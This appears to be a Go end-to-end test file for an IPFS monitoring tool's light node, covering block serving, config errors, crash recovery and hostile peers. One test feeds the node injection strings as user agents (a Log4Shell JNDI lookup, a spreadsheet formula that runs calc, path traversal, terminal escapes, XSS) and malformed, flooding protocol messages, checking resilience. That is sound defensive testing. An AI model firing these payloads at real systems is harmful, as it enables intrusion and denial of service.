package e2e

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	bsmsg "github.com/ipfs/boxo/bitswap/message"
	pb "github.com/ipfs/boxo/bitswap/message/pb"
	blocks "github.com/ipfs/go-block-format"
	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	mh "github.com/multiformats/go-multihash"
	"github.com/stretchr/testify/require"

	"github.com/ipfsmon/ipfsmon/stream"
	"github.com/ipfsmon/ipfsmon/test/harness"
)

const bitswapProtocol = "/ipfs/bitswap/1.2.0"

// metric reads a metric of the light node's HTTP API, summed over labels; 0 if there is none.
func metric(t *testing.T, address, name string) (sum float64) {
	t.Helper()
	for line := range strings.Lines(page(t, "http://"+address+"/metrics")) {
		rest, ok := strings.CutPrefix(line, name)
		if !ok || rest[0] != ' ' && rest[0] != '{' {
			continue
		}
		v, err := strconv.ParseFloat(strings.TrimSpace(line[strings.LastIndexByte(line, ' '):]), 64)
		require.NoError(t, err, line)
		sum += v
	}
	return sum
}

func page(t *testing.T, url string) string {
	t.Helper()
	q, err := http.NewRequest(http.MethodGet, url, nil)
	require.NoError(t, err)
	q.Header.Set("Accept", "text/html, */*")
	resp, err := http.DefaultClient.Do(q)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.StatusCode, string(b))
	return string(b)
}

// TestWatch: a kubo fetches what a light node was given and asks for what it lacks; every sink
// has both, and after the end everything is stored.
func TestWatch(t *testing.T) {
	t.Parallel()
	has := harness.StartKubo(t, nil)
	file := harness.NewFile(t, 1<<20)
	has.Add(file)
	folder := t.TempDir()
	export := exec.Command(harness.Bin, "ipfs", "dag", "export", "--progress=false", file.Root.String())
	export.Env = has.Env
	car, err := export.Output()
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(folder, "file.car"), car, 0o600))

	w := harness.StartWatch(t, t.TempDir(), "--blocks", folder, "--name", "light")
	require.Contains(t, w.Out.String(), "Serving 5 blocks")
	seen := harness.Subscribe(t, w.Stream)
	traces := filepath.Join(t.TempDir(), "traces")
	record := harness.Start(t, harness.Environ(t.TempDir()), "record", "--all", "--from", w.Stream, traces)
	require.Eventually(t, func() bool { return metric(t, w.HTTP, "ipfsmon_stream_subscribers") == 2 }, time.Minute, 10*time.Millisecond, record.Out)
	wants := harness.StartKubo(t, nil)
	wants.IPFS("swarm", "connect", w.TCP)
	to := filepath.Join(t.TempDir(), "got")
	wants.IPFS("get", "-o", to, file.Root.String())
	got, err := os.ReadFile(to)
	require.NoError(t, err)
	require.True(t, bytes.Equal(file.Data, got))
	missing := blocks.NewBlock([]byte("nobody has this")).Cid().String()
	want := exec.Command(harness.Bin, "ipfs", "block", "get", missing)
	want.Env = wants.Env
	require.NoError(t, want.Start())
	t.Cleanup(func() { _ = want.Process.Kill(); _ = want.Wait() })

	require.Eventually(t, func() bool {
		return w.Query("SELECT count(cid) FROM blocks WHERE direction='sent'") == 5 &&
			w.Query("SELECT count(cid) FROM wants WHERE direction='received' AND cid='"+missing+"'") > 0 && seen.Get()["want_have"] > 0
	}, time.Minute, 50*time.Millisecond)
	require.Contains(t, wants.IPFS("id", w.ID, "-f", "<aver>"), "ipfsmon-watch/")
	require.EqualValues(t, 1, metric(t, w.HTTP, "plugin_metric_export_wiretap_peers"))
	require.Contains(t, page(t, "http://"+w.HTTP+"/"), "<title>")
	require.Contains(t, page(t, "http://"+w.HTTP+"/metric_plugin/v1/sample_peer_metadata?only_connected=true"), "kubo/")
	for _, args := range [][]string{
		{"introspect", "--format", "json"}, // which finds it without an address
		{"query", "top-cids", "--since", "1h"}, {"tail", "--count", "1"},
	} {
		if args[0] == "tail" {
			wants.IPFS("swarm", "disconnect", w.TCP)
			wants.IPFS("swarm", "connect", w.TCP)
		}
		code, out, stderr := harness.Apart(t, w.Env, args...)
		require.Zero(t, code, "%v: %s%s", args, out, stderr)
		require.Contains(t, stderr, "light node", args)
		if args[0] == "introspect" {
			require.Contains(t, out, w.ID)
		}
	}

	code, out, stderr := harness.Apart(t, w.Env, "watch", "--isolated", "--stream", "127.0.0.1:0", "--http", "127.0.0.1:0", "--store", "127.0.0.1:0")
	require.NotZero(t, code, out)
	require.Contains(t, stderr, "is running already")
	w.Signal(syscall.SIGINT)
	require.Zero(t, w.Wait(time.Minute), w.Out.String())
	require.Contains(t, w.Out.String(), "stored")

	// What was recorded meanwhile: what the light node sent, and what it was asked for.
	record.Signal(syscall.SIGTERM)
	require.Zero(t, record.Wait(time.Minute), record.Out.String())
	files, err := stream.Recordings(traces)
	require.NoError(t, err)
	sent, asked := 0, 0
	for _, f := range files {
		require.Equal(t, "light", filepath.Base(filepath.Dir(f)))
		bad, err := stream.ReadRecording(f, func(e *stream.Event) error {
			if e.Sent != nil {
				sent += len(e.Sent.Blocks)
			}
			if e.Message != nil {
				for _, entry := range e.Message.Wants {
					if entry.Cid.String() == missing {
						asked++
					}
				}
			}
			return nil
		})
		require.NoError(t, err)
		require.Zero(t, bad)
	}
	require.Equal(t, 5, sent)
	require.NotZero(t, asked)
}

// TestWatchSaysWhatIsWrong: wrong settings are named before anything starts.
func TestWatchSaysWhatIsWrong(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	config := func(text string) string {
		name := filepath.Join(t.TempDir(), "c.json")
		require.NoError(t, os.WriteFile(name, []byte(text), 0o600))
		return name
	}
	f := func(want string, args ...string) {
		t.Helper()
		code, out, stderr := harness.Apart(t, harness.Environ(home), append([]string{"watch", "--isolated"}, args...)...)
		require.NotZero(t, code)
		require.Contains(t, stderr, want)
		require.NotContains(t, out, "ready")
	}
	f("--peers 10: want 50 to 20000", "--peers", "10")
	f("--peers 0: want", "--peers", "0")
	f(`--peers "many": want a whole number`, "--peers", "many")
	f("unknown flag --peer; did you mean --peers?", "--peer", "100")
	f(`--dht "both": want one of auto, server, client`, "--dht", "both")
	f("an isolated node connects to loopback alone", "--bootstrap", "/ip4/192.0.2.1/tcp/4001/p2p/QmNnooDu7bfjPFoTZYxMNLWUQJyrVwtbZg5gBMjTezGAJN")
	f("an isolated node listens on loopback", "--listen", "/ip4/0.0.0.0/tcp/0")
	f("--want-every 10ms: want 1s or more", "--want-every", "10ms")
	f("want a folder with CAR files", "--blocks", "/nonexistent")
	f(`peer: unknown key; did you mean peers?`, "--config", config(`{"peer": 100}`))
	f("peers: want a whole number, got the text 100", "--config", config(`{"peers": "100"}`))
	f("lookup-every", "--config", config(`{"lookup-every": "soon"}`))
	f("peers: 7: want 50 to 20000", "--config", config(`{"peers": 7}`))
	f("monitor.Nonsense: unknown key", "--config", config(`{"monitor": {"Nonsense": 1}}`))
	taken := harness.FreeAddress(t, "tcp")
	keep := harness.StartWatch(t, t.TempDir(), "--listen", "/ip4/127.0.0.1/tcp/"+taken[strings.LastIndexByte(taken, ':')+1:]+",/ip4/127.0.0.1/udp/0/quic-v1")
	f("the node: "+taken+": address already in use", "--listen", "/ip4/127.0.0.1/tcp/"+taken[strings.LastIndexByte(taken, ':')+1:], "--stream", "127.0.0.1:0", "--http", "127.0.0.1:0", "--store", "127.0.0.1:0")
	require.NotNil(t, keep)

	low := exec.Command("sh", "-c", `ulimit -n 2000 && exec "$0" watch --isolated --peers 2000`, harness.Bin)
	low.Env = harness.Environ(home)
	out, err := low.CombinedOutput()
	require.Error(t, err)
	require.Contains(t, string(out), "the limit of file descriptors is 2000, so many peers need 4152")
	require.Contains(t, string(out), "ulimit -n 4152")
}

// TestWatchWithoutBootstrap: the log names what to do when nobody answers.
func TestWatchWithoutBootstrap(t *testing.T) {
	t.Parallel()
	w := harness.StartWatch(t, t.TempDir(), "--bootstrap", "/ip4/127.0.0.1/tcp/1/p2p/QmNnooDu7bfjPFoTZYxMNLWUQJyrVwtbZg5gBMjTezGAJN")
	w.Find("none of the bootstrap peers answers")
	w.Find("want others with --bootstrap or --bootstrap-file")
}

// TestWatchKilled: after kill -9 it is the same peer, what was stored is there, and it
// continues, again and again.
func TestWatchKilled(t *testing.T) {
	t.Parallel()
	home, id, least := t.TempDir(), "", 0.0
	for round := range 3 {
		w := harness.StartWatch(t, home)
		if round > 0 {
			require.Equal(t, id, w.ID)
			require.GreaterOrEqual(t, w.Query("SELECT count(cid) FROM wants"), least)
		}
		id = w.ID
		h := stranger(t, w)
		s, err := h.NewStream(t.Context(), lightOf(t, w).ID, bitswapProtocol)
		require.NoError(t, err)
		sent := 0
		for ; sent < 200; sent++ {
			m := bsmsg.New(false)
			m.AddEntry(blocks.NewBlock(fmt.Appendf(nil, "%d %d", round, sent)).Cid(), 1, pb.Message_Wantlist_Have, true)
			require.NoError(t, m.ToNetV1(s))
		}
		require.Eventually(t, func() bool {
			return w.Query("SELECT count(cid) FROM wants") >= least+float64(sent) &&
				metric(t, w.HTTP, "ipfsmon_influx_queued_points") == 0 // InfluxDB shows points before it has stored them
		}, time.Minute, 20*time.Millisecond)
		least += float64(sent)
		require.NoError(t, w.Cmd.Process.Kill())
		w.Wait(time.Minute)
	}
}

func lightOf(t *testing.T, w *harness.Watch) *peer.AddrInfo {
	t.Helper()
	info, err := peer.AddrInfoFromString(w.TCP)
	require.NoError(t, err)
	return info
}

// stranger makes a host that is connected to a light node.
func stranger(t *testing.T, w *harness.Watch, opts ...libp2p.Option) host.Host {
	t.Helper()
	h, err := libp2p.New(append([]libp2p.Option{libp2p.NoListenAddrs, libp2p.DisableRelay(), libp2p.ResourceManager(&network.NullResourceManager{})}, opts...)...)
	require.NoError(t, err)
	t.Cleanup(func() { h.Close() })
	require.NoError(t, h.Connect(t.Context(), *lightOf(t, w)))
	return h
}

// TestHostilePeersOfAWatch: whatever peers say, the node answers others, recovers from nothing
// (there are no panics), and shows nothing of it to a terminal.
func TestHostilePeersOfAWatch(t *testing.T) {
	t.Parallel()
	w := harness.StartWatch(t, t.TempDir(), "--dht", "server")
	to := lightOf(t, w).ID
	agents := []string{`kubo\`, `\`, "", "kubo/0.43\nforged,who=me v=1i 1", "\x1b[2J\x1b]0;owned\x07", "a\x00b", "\xff\xfe", "<script>alert(1)</script>",
		"\u202eevil", "=cmd|' /C calc'!A0", "${jndi:ldap://x}", "%s%n%s", "../../etc/passwd", strings.Repeat("e\u0301", 2000), `,= "'`}
	var all []host.Host
	for _, a := range agents {
		all = append(all, stranger(t, w, libp2p.UserAgent(a)))
	}
	for i := range 1800 {
		all[0].SetStreamHandler(protocol.ID(fmt.Sprintf("/x/%d\x1b[31m", i)), func(s network.Stream) { s.Reset() })
	}

	// say writes bytes to a new stream, whole or not; the node may reset it at any time.
	say := func(h host.Host, id protocol.ID, parts ...[]byte) {
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
		defer cancel()
		s, err := h.NewStream(ctx, to, id)
		if err != nil {
			return // it has had too many
		}
		_ = s.SetDeadline(time.Now().Add(20 * time.Second))
		for _, p := range parts {
			if _, err := s.Write(p); err != nil {
				break
			}
		}
		_ = s.CloseWrite()
	}
	length := func(n uint64) []byte { return binary.AppendUvarint(nil, n) }
	message := func(build func(bsmsg.BitSwapMessage)) []byte {
		m := bsmsg.New(false)
		build(m)
		var b bytes.Buffer
		require.NoError(t, m.ToNetV1(&b))
		return b.Bytes()
	}
	huge, err := mh.Sum(make([]byte, 1<<20), mh.IDENTITY, -1)
	require.NoError(t, err)
	h := all[1]
	say(h, bitswapProtocol, length(1<<63), []byte("x"))
	say(h, bitswapProtocol, length(4<<20), []byte("begun"))
	say(h, bitswapProtocol, length(20), bytes.Repeat([]byte{0xff}, 20))
	say(h, bitswapProtocol, bytes.Repeat([]byte{0xff}, 4096))
	say(h, bitswapProtocol, message(func(m bsmsg.BitSwapMessage) {
		m.AddEntry(cid.NewCidV1(cid.Raw, huge), 1, pb.Message_Wantlist_Block, true)
	}))
	say(h, bitswapProtocol, message(func(m bsmsg.BitSwapMessage) {
		for i := range 50_000 {
			m.AddEntry(blocks.NewBlock(fmt.Appendf(nil, "%d", i)).Cid(), int32(i)<<16, pb.Message_Wantlist_Have, true)
		}
	}))
	say(h, bitswapProtocol, message(func(m bsmsg.BitSwapMessage) {
		for i := range 2 {
			m.AddBlock(blocks.NewBlock(bytes.Repeat([]byte{byte(i)}, 1<<20)))
		}
		m.AddHave(blocks.NewBlock(nil).Cid())
	}))
	empty := message(func(bsmsg.BitSwapMessage) {})
	say(h, bitswapProtocol, bytes.Repeat(empty, 10_000))
	for _, id := range []protocol.ID{"/ipfs/kad/1.0.0", "/ipfs/lan/kad/1.0.0"} {
		say(h, id, length(1<<40))
		say(h, id, length(8), []byte("garbage!"))
		say(h, id, length(1<<20), make([]byte, 1<<20))
		say(h, id, []byte{4, 0x08, 99, 0x50, 1})                                         // an unknown type
		say(h, id, append(append([]byte{}, length(6)...), 0x08, 0x02, 0x12, 0x02, 0, 0)) // provides what is no key
	}
	for range 300 { // and leaves them open
		s, err := all[2].NewStream(network.WithNoDial(t.Context(), "test"), to, bitswapProtocol)
		if err == nil {
			_, _ = s.Write([]byte{0x80})
		}
	}

	good := stranger(t, w, libp2p.UserAgent("good/1"))
	answered := make(chan bool, 100)
	good.SetStreamHandler(bitswapProtocol, func(s network.Stream) { s.Close(); answered <- true })
	say(good, bitswapProtocol, message(func(m bsmsg.BitSwapMessage) {
		m.AddEntry(blocks.NewBlock([]byte("the good one wants this")).Cid(), 1, pb.Message_Wantlist_Have, true)
	}))
	select {
	case <-answered:
	case <-time.After(time.Minute):
		require.FailNow(t, "a peer is not answered any more")
	}
	require.Eventually(t, func() bool {
		out, err := harness.InfluxQL(w.Influx, "SELECT count(peer) FROM identifies WHERE agent =~ /good/")
		return err == nil && out[""] >= 1
	}, time.Minute, 50*time.Millisecond)
	text := page(t, "http://"+w.HTTP+"/metrics")
	for line := range strings.Lines(text) {
		if strings.Contains(line, "_panics_total") && !strings.HasPrefix(line, "#") {
			require.True(t, strings.HasSuffix(strings.TrimSpace(line), " 0"), line)
		}
	}
	forged, err := harness.InfluxQL(w.Influx, "SELECT count(v) FROM forged")
	require.NoError(t, err)
	require.Empty(t, forged)
	code, out, _ := harness.Apart(t, w.Env, "introspect")
	require.Zero(t, code)
	require.NotContains(t, out+w.Out.String(), "\x1b[2J")
	require.NotContains(t, out+w.Out.String(), "\x1b[31m")
	w.Signal(syscall.SIGINT)
	require.Zero(t, w.Wait(time.Minute), w.Out.String())
}

// TestDemoWatch: the demo's light node sees the demo's swarm and stores beside its node.
func TestDemoWatch(t *testing.T) {
	t.Parallel()
	env := harness.Environ(t.TempDir())
	p := harness.Start(t, env, "demo", "--watch", "1", "--stream", "127.0.0.1:0", "--http", "127.0.0.1:0", "--store", "127.0.0.1:0", "--interval", "1")
	p.Find(`watch-1: The node is (ready)`)
	require.Eventually(t, func() bool {
		code, out, _ := harness.Apart(t, env, "query", "--format", "csv", "SELECT count(distinct(peer)) FROM connections WHERE node = 'watch-1'")
		f := strings.Split(strings.TrimSpace(out), ",")
		n, err := strconv.ParseFloat(f[len(f)-1], 64)
		return code == 0 && err == nil && n >= 4
	}, 2*time.Minute, 500*time.Millisecond, "the light node finds the swarm")
	require.Eventually(t, func() bool {
		code, out, _ := harness.Apart(t, env, "query", "--format", "csv", "SELECT count(cid) FROM wants WHERE node = 'watch-1'")
		return code == 0 && strings.Contains(out, ",")
	}, 2*time.Minute, 500*time.Millisecond, "the light node is asked")
	p.Signal(syscall.SIGINT)
	require.Zero(t, p.Wait(time.Minute), p.Out.String())
	code, out, stderr := harness.Apart(t, harness.Environ(t.TempDir()), "demo", "--watch", "9")
	require.Equal(t, 2, code, out)
	require.Contains(t, stderr, "--watch 9: want at most 8")
}
